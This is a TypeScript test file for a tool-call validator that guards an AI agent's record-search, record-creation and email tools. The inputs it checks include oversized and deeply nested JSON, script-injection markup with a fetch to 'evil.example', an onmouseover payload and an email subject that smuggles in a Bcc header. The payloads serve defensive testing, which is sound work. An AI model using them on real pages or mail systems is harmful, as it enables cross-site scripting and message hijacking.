import fc from 'fast-check';
import { beforeEach, describe, expect, it } from 'vitest';
import type { JsonObject, JsonValue } from '../core/json.ts';
import { checkToolCall } from './check-tool-call.ts';
import type { RecordStore } from './record-store.ts';
import { readOutbox } from './send-email-tool.ts';
import type { ToolRegistry } from './tool-registry.ts';
import { seededTools, toolContext as context } from '../test/record-tools-test-support.ts';

const markup = '<img src=x onerror="alert(1)"><script>fetch("//evil.example")</script>';
let store: RecordStore;
let registry: ToolRegistry;

beforeEach(async () => {
  ({ store, registry } = await seededTools());
});

const snapshot = async () =>
  JSON.stringify([await store.db.records.toArray(), await store.db.outbox.toArray()]);

function nested(depth: number): { readonly args: JsonObject; readonly raw: string } {
  let value: JsonValue = 1;
  for (let level = 0; level < depth; level += 1) value = { a: value };
  return {
    args: { model: 'order', filter: [{ field: 'status', op: 'eq', value }] },
    raw: `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
  };
}

describe('bad input', () => {
  it('refuses input nested thousands of levels deep without overflowing the stack', async () => {
    const { args, raw } = nested(5_000);
    const refusal = await checkToolCall(
      { name: 'search_records', args, rawArguments: raw },
      registry,
      context,
    );
    expect(refusal?.source).toBe('invalid-arguments');
    expect(refusal?.message).toContain('nested too deeply (more than 16 levels)');
    const deeper = nested(200_000);
    const tooBig = await checkToolCall(
      { name: 'search_records', args: deeper.args, rawArguments: deeper.raw },
      registry,
      context,
    );
    expect(tooBig?.source).toBe('invalid-arguments');
  });

  it('refuses megabytes of arguments before validating them', async () => {
    const args = { to: 'dana.whitfield@example.com', subject: 'Hi', body: 'x'.repeat(3_000_000) };
    const refusal = await checkToolCall(
      { name: 'send_email', args, rawArguments: JSON.stringify(args) },
      registry,
      context,
    );
    expect(refusal?.source).toBe('invalid-arguments');
    expect(refusal?.message).toMatch(/too large \(3,000,\d{3}\+ characters; the limit is 100,000\)/);
    expect(refusal!.message.length).toBeLessThan(300);
  });

  it('quotes markup back as short inert text in refusals', async () => {
    const unknownTool = await checkToolCall(
      { name: markup, args: {}, rawArguments: '{}' },
      registry,
      context,
    );
    expect(unknownTool?.message).toContain(JSON.stringify(`${markup.slice(0, 60)}…`));
    const args = { model: 'order', fields: ['<b onmouseover=alert(1)>x</b>'] };
    const unknownField = await checkToolCall(
      { name: 'search_records', args, rawArguments: JSON.stringify(args) },
      registry,
      context,
    );
    expect(unknownField?.message).toContain(
      'Order has no field "<b onmouseover=alert(1)>x</b>". Order fields: id,',
    );
  });

  it('stores markup in text fields as the exact text, never interpreted', async () => {
    const values = { customer_id: 17, subject: 'Broken <b>plates</b>', body: markup };
    const created = (await registry.get('create_record')!.execute({ model: 'ticket', values }, context)) as {
      created: JsonObject;
    };
    expect((await store.get('ticket', created.created.id as number))?.body).toBe(markup);
    await registry
      .get('send_email')!
      .execute({ to: 'dana.whitfield@example.com', subject: 'Re: plates', body: markup }, context);
    expect((await readOutbox(store.db))[0]?.body).toBe(markup);
  });

  it('refuses a subject with line breaks, which could smuggle in headers', async () => {
    const args = { to: 'dana.whitfield@example.com', subject: 'Hi\nBcc: all@example.com', body: 'x' };
    const refusal = await checkToolCall(
      { name: 'send_email', args, rawArguments: JSON.stringify(args) },
      registry,
      context,
    );
    expect(refusal?.message).toContain('subject must be one line');
  });

  it('changes nothing in the data store while calls are only checked, whatever their input', async () => {
    const before = await snapshot();
    const names = registry.list().map((tool) => tool.name);
    const anyArgs = fc.oneof(
      fc.dictionary(
        fc.constantFrom('model', 'id', 'values', 'updates', 'filter', 'to', 'subject', 'body'),
        fc.jsonValue(),
      ),
      fc.record({
        model: fc.constantFrom('order', 'ticket', 'customer', 'nope'),
        id: fc.oneof(fc.constant(1042), fc.constant(5088), fc.integer()),
        values: fc.dictionary(
          fc.constantFrom('status', 'refund_amount', 'subject', 'tax_id', 'bogus'),
          fc.jsonValue(),
        ),
      }),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...names), anyArgs, async (name, args) => {
        await checkToolCall(
          { name, args: args as JsonObject, rawArguments: JSON.stringify(args) },
          registry,
          context,
        );
      }),
      { numRuns: 150 },
    );
    expect(await snapshot()).toBe(before);
  });
});
